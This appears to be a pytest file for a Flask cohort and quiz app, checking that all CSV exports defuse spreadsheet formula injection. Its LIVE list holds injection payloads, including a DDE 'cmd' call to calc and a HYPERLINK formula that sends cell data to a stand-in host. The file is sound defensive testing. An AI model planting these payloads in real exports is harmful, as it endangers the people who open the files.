"""Whatever people are called and write, no cell of any table to take away runs in a spreadsheet: all are walked."""

import csv
import io
from collections.abc import Callable

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.routing import Rule

from cohorts.models import Group, GroupSet, Meeting
from foundation.database import db
from foundation.spreadsheets import FORMULA_STARTS
from tests.cast import Cast, activity
from tests.quizzes.playing import answer_all, start
from tests.test_routes import furnish, put_into_a_group, routes, url_of

As = Callable[[str], FlaskClient]

__all__ = ["routes"]

LIVE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("https://jahat.example?"&A1,"klik")',
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '"=1+1',
    ";=1+1",
    "%0A-3+3",
    "|calc",
]


@pytest.fixture
def tables(app: Flask, routes: list[tuple[Rule, str]]) -> list[str]:
    return [url_of(app, rule, method) for rule, method in routes if rule.rule.endswith(".csv")]


def call_everything(cast: Cast, text: str) -> None:
    omar, dua = cast.people["omar"], cast.cohorts["dua"]
    omar.name = dua.name = activity("kuis-sister-city").title = text
    for table, column in ((GroupSet, "name"), (Group, "name"), (Meeting, "title")):
        for row in db.session.query(table):
            setattr(row, column, text)
    db.session.commit()


@pytest.mark.parametrize("text", LIVE)
def test_no_cell_of_any_table_runs(cast: Cast, as_: As, tables: list[str], text: str) -> None:
    furnish(cast)
    put_into_a_group(cast)
    start(as_("omar"))
    answer_all(as_("omar"), submit=True)
    call_everything(cast, text)
    assert len(tables) >= 4
    seen = ""
    for url in tables:
        reply = as_("ida").get(url)
        assert reply.status_code == 200 and reply.mimetype == "text/csv", url
        assert reply.headers["Content-Disposition"].startswith("attachment"), url
        for row in csv.reader(io.StringIO(reply.get_data(as_text=True).removeprefix("\ufeff")), delimiter=";"):
            for cell in row:
                is_live = cell.lstrip().startswith(FORMULA_STARTS) and not cell.replace(",", "").isdecimal()
                assert not is_live, f"{url}: {cell}"
                assert "\r" not in cell and "\n" not in cell
                seen += cell
    assert text.strip().lstrip('"') in seen
